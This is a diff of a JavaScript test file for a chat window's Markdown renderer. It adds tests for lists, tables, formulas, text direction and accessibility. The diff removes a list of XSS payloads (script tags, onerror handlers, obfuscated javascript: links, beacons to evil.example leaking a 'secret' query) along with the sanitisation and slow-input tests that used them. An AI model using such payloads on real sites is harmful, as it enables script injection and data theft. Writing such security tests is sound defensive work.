@@ -1,34 +1,20 @@
-// Rendering of answers: Markdown is rendered, and HTML has no effect.
+// Rendering of answers: the blocks of Markdown, and texts that grow.
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
 
+import { AnswerTab } from "./answers.js";
+import { accessibilityViolations, screenshot } from "./page_checks.js";
 import { startService } from "./service.js";
 
 let service;
 let tab;
+let answers;
 before(async () => {
   service = await startService();
   tab = await service.tab();
+  answers = new AnswerTab(service, tab);
 });
 after(() => service.close());
-
-let questions = 0;
-
-/** Makes the model send this text in pieces of `size`, and waits for the end. */
-async function show(text, size = text.length) {
-  const question = `Question ${(questions += 1)}`;
-  const pieces = [];
-  for (let at = 0; at < text.length; at += size) pieces.push(text.slice(at, at + size));
-  service.model.when(question, (call) => (call.say(...pieces), call.done()));
-  await tab.window.evaluate((window) => window.clear());
-  await tab.askAndWait(question);
-}
-
-/** Returns the answer's HTML without the directions of its texts. */
-const html = async () => (await tab.answer.innerHTML()).replace(/ dir="\w+"/g, "");
-
-/** Returns the HTML of a link in the window. */
-const link = (address, text) => `<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">${text}</a>`;
 
 test("Markdown is rendered", async () => {
   const cases = [
@@ -47,15 +33,6 @@ test("Markdown is rendered", async () => {
     ["3. a\n\n   more\n4. b\n- c", '<ol start="3" class="loose"><li><p>a</p><p>more</p></li><li><p>b</p></li></ol><ul><li>c</li></ul>'],
     ["Say:\n1. a\n  - b\n2. c", '<p>Say:</p><ol start="1"><li>a<ul><li>b</li></ul></li><li>c</li></ol>'],
     ["It was\n1986. A year", "<p>It was<br>1986. A year</p>"],
-    ["[a](https://x.example/p_(q) \"title\")", `<p>${link("https://x.example/p_(q)", "a")}</p>`],
-    ["<https://x.example> mailto [m](mailto:a@b.example)", `<p>${link("https://x.example/", "https://x.example")} mailto ${link("mailto:a@b.example", "m")}</p>`],
-    ["See https://x.example/a?b=c&d=e, or (https://y.example).", `<p>See ${link("https://x.example/a?b=c&amp;d=e", "https://x.example/a?b=c&amp;d=e")}, or (${link("https://y.example/", "https://y.example")}).</p>`],
-    ["**https://x.example**", `<p><strong>${link("https://x.example/", "https://x.example")}</strong></p>`],
-    ["![a cat](https://x.example/cat.png)", `<p>${link("https://x.example/cat.png", "a cat")}</p>`],
-    ["![](https://x.example/cat.png)", `<p>${link("https://x.example/cat.png", "https://x.example/cat.png")}</p>`],
-    ["[![badge](https://x.example/b.svg)](https://y.example)", `<p>${link("https://y.example/", "<span>badge</span>")}</p>`],
-    ["array[0] and [text] and [a](b", "<p>array[0] and [text] and [a](b</p>"],
-    ["[home](/relative)", "<p><span>home</span></p>"],
     [
       "| a | b |\n|---|:-:|\n| 1 | **2** |\n| x \\| y |\n\nend",
       '<div class="table" part="table" tabindex="0"><table><thead><tr><th scope="col">a</th><th scope="col" class="center">b</th></tr></thead><tbody><tr><td>1</td><td class="center"><strong>2</strong></td></tr><tr><td>x | y</td><td class="center"></td></tr></tbody></table></div><p>end</p>',
@@ -70,8 +47,8 @@ test("Markdown is rendered", async () => {
     ],
   ];
   for (const [markdown, expected] of cases) {
-    await show(markdown);
-    assert.equal(await html(), expected, markdown);
+    await answers.show(markdown);
+    assert.equal(await answers.html(), expected, markdown);
   }
 });
 
@@ -80,11 +57,11 @@ test("Markdown in pieces renders as the whole text", async () => {
     "# Title\n\nText with **bold**, `code` and [a link](https://x.example).\n\n1. one\n   - inner\n2. two\n\n",
     "```rust\nfn main() {}\n```\r\n\r\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nThe *end*.",
   ].join("");
-  await show(whole);
-  const expected = await html();
+  await answers.show(whole);
+  const expected = await answers.html();
   for (const size of [1, 3, 7]) {
-    await show(whole, size);
-    assert.equal(await html(), expected, `pieces of ${size}`);
+    await answers.show(whole, size);
+    assert.equal(await answers.html(), expected, `pieces of ${size}`);
   }
 });
 
@@ -124,114 +101,67 @@ test("unfinished Markdown shows no marks, finished stays", async () => {
   assert.equal(firsts, 1);
 });
 
-const HOSTILE = [
-  "<script>pwned()</script>",
-  "<img src=x onerror=pwned()>",
-  "<img src='/leak.png'>",
-  "<svg onload=pwned()><script>pwned()</script></svg>",
-  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-  "<details open ontoggle=pwned()>",
-  "<style>@import '/leak.css'; * { background: url(/leak.png) }</style>",
-  "<link rel=stylesheet href=/leak.css><base href=https://evil.example/>",
-  "<form action=/leak><input name=a onfocus=pwned() autofocus></form>",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
-  "<a href='javascript:pwned()'>x</a>",
-  "[a](javascript:pwned())",
-  "[a](JaVaScRiPt:pwned())",
-  "[a](java\tscript:pwned())",
-  "[a](<java\nscript:pwned()>)",
-  "[a](&#106;avascript:pwned())",
-  "[a](javascript&colon;pwned())",
-  "[a](\\javascript:pwned())",
-  "[a]( javascript:pwned())",
-  "[a](\u0001javascript:pwned())",
-  "[a](data:text/html,<script>pwned()</script>)",
-  "[a](vbscript:pwned())",
-  "[a](blob:https://x.example/1)",
-  "[a](file:///etc/passwd)",
-  "[a](//evil.example)",
-  "[a](https://x.example\" onmouseover=\"pwned())",
-  "[a](https://x.example 'onclick=pwned()')",
-  "![a](https://evil.example/leak.png?q=secret)",
-  "![a\" onerror=\"pwned()](x)",
-  "![a](javascript:pwned())",
-  "<javascript:pwned()>",
-  "<https://x.example/\" onclick=\"pwned()>",
-  "https://x.example/\"onmouseover=\"pwned()",
-  "```\"><img src=x onerror=pwned()>\ncode\n```",
-  "```html onload=pwned()\n<script>pwned()</script>\n```",
-  "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | [a](javascript:pwned()) |",
-  "# <img src=x onerror=pwned()>",
-  "> <script>pwned()</script>",
-  "- <script>pwned()</script>",
-  "`<img src=x onerror=pwned()>`",
-  "**<b onclick=pwned()>x</b>**",
-  "[<img src=x onerror=pwned()>](https://x.example)",
-  "[a]: javascript:pwned()\n\n[a]",
-  "<al-chat-window api=https://evil.example></al-chat-window>",
-  "<slot></slot><template><script>pwned()</script></template>",
-  "{{constructor.constructor('pwned()')()}}",
-  "\u202e<script>pwned()</script>",
-  "<!--<script>pwned()</script>-->",
-  "<![CDATA[<script>pwned()</script>]]>",
-];
-
-const TAGS =
-  "A B BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM H3 H4 H5 H6 HR I INPUT INS KBD LABEL LI MARK OL P PRE S SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TH THEAD TR U UL".split(" ");
-const ATTRIBUTES = "checked class dir disabled href part rel scope start tabindex target type".split(" ");
-
-test("hostile Markdown and HTML have no effect", async () => {
-  let pwned = 0;
-  await tab.page.exposeFunction("pwned", () => (pwned += 1));
-  tab.page.on("dialog", (dialog) => (pwned += 1, dialog.dismiss()));
-  const requests = tab.requests();
-  const attempts = [...HOSTILE.map((text) => [text]), [HOSTILE.join("\n\n"), 5], [HOSTILE.join(" "), 11]];
-  for (const [text, size] of attempts) {
-    await show(text, size);
-    const found = await tab.answer.evaluate((body) =>
-      [...body.querySelectorAll("*")].map(({ tagName, attributes, href }) => ({
-        tag: tagName,
-        names: [...attributes].map(({ name }) => name),
-        href,
-      })),
-    );
-    for (const { tag, names, href } of found) {
-      assert.ok(TAGS.includes(tag), `${tag} from ${text}`);
-      for (const name of names) assert.ok(ATTRIBUTES.includes(name), `${name} from ${text}`);
-      if (tag === "A") assert.match(href, /^(https?|mailto):/, text);
-    }
+test("lists are read as they are meant", async () => {
+  const code = (text) =>
+    `<div class="code" part="code"><div><span>sh</span><button type="button" class="copy quiet">Copy</button></div><pre tabindex="0"><code>${text}</code></pre></div>`;
+  const box = (state) => `<input type="checkbox" disabled=""${state}>`;
+  const cases = [
+    ["- a\n\n- b", '<ul class="loose"><li><p>a</p></li><li><p>b</p></li></ul>'],
+    ["- a\n  - b\n\n  - c\n- d", '<ul><li>a<ul class="loose"><li><p>b</p></li><li><p>c</p></li></ul></li><li>d</li></ul>'],
+    [
+      "- [ ] tea\n- [x] **milk**\n- [] none",
+      `<ul><li class="task"><label>${box("")} tea</label></li><li class="task"><label>${box(' checked=""')} <strong>milk</strong></label></li><li>[] none</li></ul>`,
+    ],
+    ["4) a\n5) b", '<ol start="4"><li>a</li><li>b</li></ol>'],
+    ["1. a\n```sh\nx\n```\n2. b", `<ol start="1"><li>a</li></ol>${code("x")}<ol start="2"><li>b</li></ol>`],
+    ["1. a\n  ```sh\n  x\n\n- y\n  ```\n2. b", `<ol start="1"><li>a${code("x\n\n- y")}</li><li>b</li></ol>`],
+    ["- a\n\n      ```sh\n      x\n      ```", `<ul class="loose"><li><p>a</p>${code("x")}</li></ul>`],
+    ["- It was\n1986. A year\n- b", "<ul><li>It was<br>1986. A year</li><li>b</li></ul>"],
+  ];
+  for (const [markdown, expected] of cases) {
+    await answers.show(markdown);
+    assert.equal(await answers.html(), expected, markdown);
   }
-  // The same for a visitor's message and a file's name.
-  await tab.page.locator("input[type=file]").setInputFiles({
-    name: "<img src=x onerror=pwned()>.txt",
-    mimeType: "text/plain",
-    buffer: Buffer.from("x"),
-  });
-  await tab.askAndWait("<img src=x onerror=pwned()>");
-  assert.equal(await tab.page.locator("img, script:not([src]), iframe, svg [onload]").count(), 0);
-  assert.equal(pwned, 0);
-  const strange = requests.map((request) => new URL(request.url()).pathname).filter((path) => !path.startsWith("/api/"));
-  assert.deepEqual(strange, []);
 });
 
-test("long hostile texts render in time", async () => {
-  const size = 100_000;
-  const fill = (text) => text.repeat(Math.ceil(size / text.length)).slice(0, size);
-  const patterns = [
-    "*a ", "*a_b", "**a *b ", "_a ", "[", "![", "[a](", "[a](b ", "[a](b \"", "](", "`", "`a``b", "``` ", "> ", ">", "- ", "-  - ",
-    "1. ", "  - a\n", "#", "# a # ", "|", "|-", "a|b\n-|-\n", "\\", "<https://", "https://x.y/) ", "https://x.y/)))))", "~~a", "\n", " ", "\t",
-    "***", "a\n", "(", "<a ", "-\n\n", "* *", "_ ", "a** b",
+test("tables are aligned, and rows fit their columns", async () => {
+  await answers.show("Prices:\nItem | Price | Note\n:-- | --: | :-:\n`a|b` | 3 | hot\nx | y | z | more\nfew |\n\nend");
+  const cells = await answers.all("th, td", (all) => all.map((cell) => [cell.textContent, getComputedStyle(cell).textAlign]));
+  const sides = ["left", "right", "center"];
+  const texts = ["Item", "Price", "Note", "a|b", "3", "hot", "x", "y", "z | more", "few", "", ""];
+  assert.deepEqual(cells, texts.map((text, at) => [text, sides[at % 3]]));
+});
+
+test("a displayed formula is shown as it is written", async () => {
+  const cases = [
+    ["So:\n\\[\nx^*y^*\n- z \\\\\n\\]\nend", '<p>So:</p><pre class="math">x^*y^*\n- z \\\\</pre><p>end</p>'],
+    ["$$ \\{1, 2\\} $$", '<pre class="math">\\{1, 2\\}</pre>'],
+    ["\\begin{align}\na_1 &= b_1 \\\\\n\\end{align}", '<pre class="math">\\begin{align}\na_1 &amp;= b_1 \\\\\n\\end{align}</pre>'],
   ];
-  for (const pattern of patterns) {
-    const began = Date.now();
-    await show(fill(pattern), 10_000);
-    const took = Date.now() - began;
-    assert.ok(took < 10_000, `${JSON.stringify(pattern)} took ${took} ms`);
+  for (const [markdown, expected] of cases) {
+    await answers.show(markdown, 2);
+    assert.equal(await answers.html(), expected, markdown);
   }
+});
+
+test("each block has the direction of its own text", async () => {
+  await answers.show("One\n\nאחת\n\n`code` שתיים\n\n- three\n- שלוש\n\n> ארבע\n\n| א | b |\n|---|---|\n| c | ד |\n\n```\nx\n```\n\nhttps://x.example שש");
+  const directions = await answers.all("p, li, blockquote, table, td, pre", (all) =>
+    all.map((element) => `${element.localName} ${getComputedStyle(element).direction}`),
+  );
+  assert.deepEqual(directions, [
+    "p ltr", "p rtl", "p rtl", "li ltr", "li rtl", "blockquote rtl", "p rtl", "table rtl", "td ltr", "td rtl", "pre ltr", "p rtl",
+  ]);
+});
+
+test("an answer of all kinds is accessible", async () => {
+  await answers.show("<think>Hm</think>\n\n- [ ] a\n- [x] b\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n\\[ x^2 \\]\n\nأهلا <kbd>Ctrl</kbd> $x$\n\n> q");
+  await screenshot(tab.page, "answer-kinds");
+  assert.deepEqual(await accessibilityViolations(tab.page), []);
 });
 
 test("code is copied by its button", async () => {
-  await show("```sh\necho hello\n```");
+  await answers.show("```sh\necho hello\n```");
   await tab.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
   await tab.answer.getByRole("button", { name: "Copy" }).click();
   await tab.answer.getByText("Copied").waitFor();
